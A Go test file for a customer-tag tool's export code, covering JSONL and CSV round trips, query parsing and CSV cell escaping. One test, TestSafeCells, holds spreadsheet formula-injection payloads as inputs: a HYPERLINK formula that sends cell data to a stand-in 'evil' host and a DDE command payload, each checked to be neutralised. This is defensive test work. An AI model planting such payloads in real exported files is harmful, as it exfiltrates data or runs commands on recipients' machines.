package ops

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/tagbot/tagbot/config"
	"github.com/tagbot/tagbot/store"
)

// wantCustomers is the seeded store's state, written out by hand.
func wantCustomers() []CustomerRow {
	t0 := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
	at := func(h int) time.Time { return t0.Add(time.Duration(h) * time.Hour) }
	return []CustomerRow{
		{ID: "c1", Name: "王小明", CorpName: "小明科技", UpdatedAt: t0, Relationships: []RelationRow{
			{Follower: "lisi", Tags: []TagRow{{ID: "t2", Group: "客户等级", Name: "普通", By: "lisi", At: at(2), CS: 2}}},
			{Follower: "zhangsan", Remark: `王总, "老客户"; 北京`, Mobiles: []string{"13800000001", "13800000002"},
				Tags: []TagRow{{ID: "t3", Group: "意向;程度", Name: "高意向", By: "zhangsan", At: at(1), CS: 1}}},
		}},
		{ID: "c2", Name: "赵敏", UpdatedAt: t0, Relationships: []RelationRow{
			{Follower: "zhangsan", State: "qr1", Tags: []TagRow{{ID: "t3", Group: "意向;程度", Name: "高意向", By: "zhangsan", At: at(3), CS: 3}}},
		}},
		{ID: "c3", Name: "无人跟进", UpdatedAt: t0, Relationships: []RelationRow{}},
	}
}

// readCSV checks the BOM and header and returns the records after it.
func readCSV(t *testing.T, out []byte, header []string) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(out, []byte("\ufeff"))
	if !ok {
		t.Fatalf("csv does not start with a UTF-8 BOM: %q", out[:min(len(out), 10)])
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) == 0 || !cmp.Equal(recs[0], header) {
		t.Fatalf("csv header %v, want %v", recs[:min(len(recs), 1)], header)
	}
	return recs[1:]
}

// customersFromCSV groups the relationship rows back into customers.
func customersFromCSV(t *testing.T, recs [][]string) []CustomerRow {
	t.Helper()
	var out []CustomerRow
	parseTime := func(s string) time.Time {
		if s == "" {
			return time.Time{}
		}
		v, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	for _, r := range recs {
		if len(out) == 0 || out[len(out)-1].ID != r[0] {
			typ, _ := strconv.Atoi(r[3])
			out = append(out, CustomerRow{ID: r[0], Name: r[1], CorpName: r[2], Type: typ, UpdatedAt: parseTime(r[4]), Relationships: []RelationRow{}})
		}
		if r[5] == "" {
			continue
		}
		rel := RelationRow{Follower: r[5], Remark: r[6], Mobiles: SplitList(r[7]), CreateTime: parseTime(r[8]), State: r[9], Tags: []TagRow{}}
		ids, names := SplitList(r[10]), SplitList(r[11])
		for i := range ids {
			group, name, _ := strings.Cut(names[i], "/")
			rel.Tags = append(rel.Tags, TagRow{ID: ids[i], Group: group, Name: name})
		}
		c := &out[len(out)-1]
		c.Relationships = append(c.Relationships, rel)
	}
	return out
}

func TestExportCustomersRoundTrip(t *testing.T) {
	st, _ := openSeeded(t)
	for _, format := range []string{FormatJSONL, FormatCSV} {
		t.Run(format, func(t *testing.T) {
			var buf bytes.Buffer
			if err := Export(&buf, st, ExportQuery{What: ExportCustomers, Format: format}); err != nil {
				t.Fatal(err)
			}
			want := wantCustomers()
			var got []CustomerRow
			if format == FormatJSONL {
				dec := json.NewDecoder(&buf)
				for dec.More() {
					var row CustomerRow
					if err := dec.Decode(&row); err != nil {
						t.Fatal(err)
					}
					got = append(got, row)
				}
			} else {
				got = customersFromCSV(t, readCSV(t, buf.Bytes(), CustomerHeader))
				for i := range want { // CSV carries no marks
					for j := range want[i].Relationships {
						for k := range want[i].Relationships[j].Tags {
							tg := &want[i].Relationships[j].Tags[k]
							tg.By, tg.At, tg.CS = "", time.Time{}, 0
						}
					}
				}
			}
			if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("customers (-want +got):\n%s", diff)
			}
		})
	}
}

func TestExportLedger(t *testing.T) {
	st, _ := openSeeded(t)
	var all []store.ChangeSet
	for id := store.ID(1); id <= 4; id++ {
		cs, err := st.Get(id)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, cs)
	}
	tests := []struct {
		name  string
		since string
		want  []store.ChangeSet
	}{
		{"all", "", all},
		{"since the third", all[2].Time.In(config.ChinaZone).Format(time.RFC3339), all[2:]},
		{"since a date after all", "2027-01-01", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			q, err := ParseExportQuery(ExportLedger, tt.since, "", config.ChinaZone)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if err := Export(&buf, st, q); err != nil {
				t.Fatal(err)
			}
			var got []store.ChangeSet
			dec := json.NewDecoder(&buf)
			for dec.More() {
				var cs store.ChangeSet
				if err := dec.Decode(&cs); err != nil {
					t.Fatal(err)
				}
				got = append(got, cs)
			}
			if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("ledger (-want +got):\n%s", diff)
			}
			q.Format = FormatCSV
			buf.Reset()
			if err := Export(&buf, st, q); err != nil {
				t.Fatal(err)
			}
			if len(tt.want) == 0 { // the BOM and the header only: a loader still sees the columns
				if want := "\ufeff" + strings.Join(LedgerHeader, ",") + "\n"; buf.String() != want {
					t.Errorf("csv of nothing: %q, want %q", buf.String(), want)
				}
				return
			}
			recs := readCSV(t, buf.Bytes(), LedgerHeader)
			var ids []string
			for _, r := range recs {
				ids = append(ids, r[0])
			}
			var wantIDs []string
			for _, cs := range tt.want {
				wantIDs = append(wantIDs, cs.ID.String())
			}
			if !cmp.Equal(wantIDs, ids) {
				t.Errorf("csv ids %v, want %v", ids, wantIDs)
			}
			var names []string
			for _, ref := range tt.want[0].Add {
				names = append(names, ref.Group+"/"+ref.Name)
			}
			if got := SplitList(recs[0][7]); !cmp.Equal(names, got) {
				t.Errorf("csv add_names of the first row %q, want %q", got, names)
			}
		})
	}
}

func TestExportLibrary(t *testing.T) {
	st, _ := openSeeded(t)
	var buf bytes.Buffer
	if err := Export(&buf, st, ExportQuery{What: ExportLibrary, Format: FormatJSONL}); err != nil {
		t.Fatal(err)
	}
	var got []string
	dec := json.NewDecoder(&buf)
	for dec.More() {
		var r LibraryRow
		if err := dec.Decode(&r); err != nil {
			t.Fatal(err)
		}
		got = append(got, r.GroupName+"/"+r.TagName)
	}
	want := []string{"意向;程度/高意向", "客户等级/VIP", "客户等级/普通", "空组/"}
	if diff := cmp.Diff(want, got, cmpopts.SortSlices(func(a, b string) bool { return a < b })); diff != "" {
		t.Errorf("library rows (-want +got):\n%s", diff)
	}
}

func TestParseExportQuery(t *testing.T) {
	tests := []struct {
		what, since, format string
		wantErr             string
	}{
		{"ledger", "", "", ""},
		{"customers", "", "csv", ""},
		{"ledger", "2026-03-01", "jsonl", ""},
		{"stuff", "", "", "want ledger, customers or library"},
		{"ledger", "", "xml", "jsonl or csv"},
		{"customers", "2026-03-01", "", "ledger only"},
		{"ledger", "yesterday", "", "wants a time"},
		{"ledger", strings.Repeat("x", 100_000), "", "wants a time"},
	}
	for _, tt := range tests {
		t.Run(tt.what+"/"+tt.since[:min(len(tt.since), 20)]+"/"+tt.format, func(t *testing.T) {
			_, err := ParseExportQuery(tt.what, tt.since, tt.format, config.ChinaZone)
			if (err == nil) != (tt.wantErr == "") || (err != nil && !strings.Contains(err.Error(), tt.wantErr)) {
				t.Errorf("err = %.300v, want %q", err, tt.wantErr)
			}
			if err != nil && len(err.Error()) > 300 {
				t.Errorf("error is %d bytes long; a long argument must be cut", len(err.Error()))
			}
		})
	}
}

func TestSplitList(t *testing.T) {
	for _, items := range [][]string{{"a"}, {"a", "b"}, {"a;b", "c; d", ";", "e;"}, {""}, {"x", ""}} {
		t.Run(strings.Join(items, "|"), func(t *testing.T) {
			got := SplitList(joinList(append([]string(nil), items...)))
			if len(items) == 1 && items[0] == "" {
				items = nil
			}
			if !cmp.Equal(items, got, cmpopts.EquateEmpty()) {
				t.Errorf("SplitList(joinList(%q)) = %q", items, got)
			}
		})
	}
}

// TestSafeCells: a cell a spreadsheet would read as a formula gets a
// leading apostrophe; numbers and plain text stay as they are.
func TestSafeCells(t *testing.T) {
	in := []string{`=HYPERLINK("http://evil/?"&A1,"点我")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)", "\tx", "-2", "+86", "王小明", "", "1.5",
		"+8613800000000", "-Inf", "+Inf", "-NaN", "-1e5", "-0x1p3", "-2.50", "-.5", "12"}
	want := []string{`'=HYPERLINK("http://evil/?"&A1,"点我")`, `'+cmd|' /C calc'!A0`, "'-2+3", "'@SUM(1+1)", "'\tx", "-2", "'+86", "王小明", "", "1.5",
		"'+8613800000000", "'-Inf", "'+Inf", "'-NaN", "'-1e5", "'-0x1p3", "-2.50", "'-.5", "12"}
	if got := safeCells(slices.Clone(in)); !slices.Equal(got, want) {
		t.Errorf("safeCells =\n%q\nwant\n%q", got, want)
	}
}
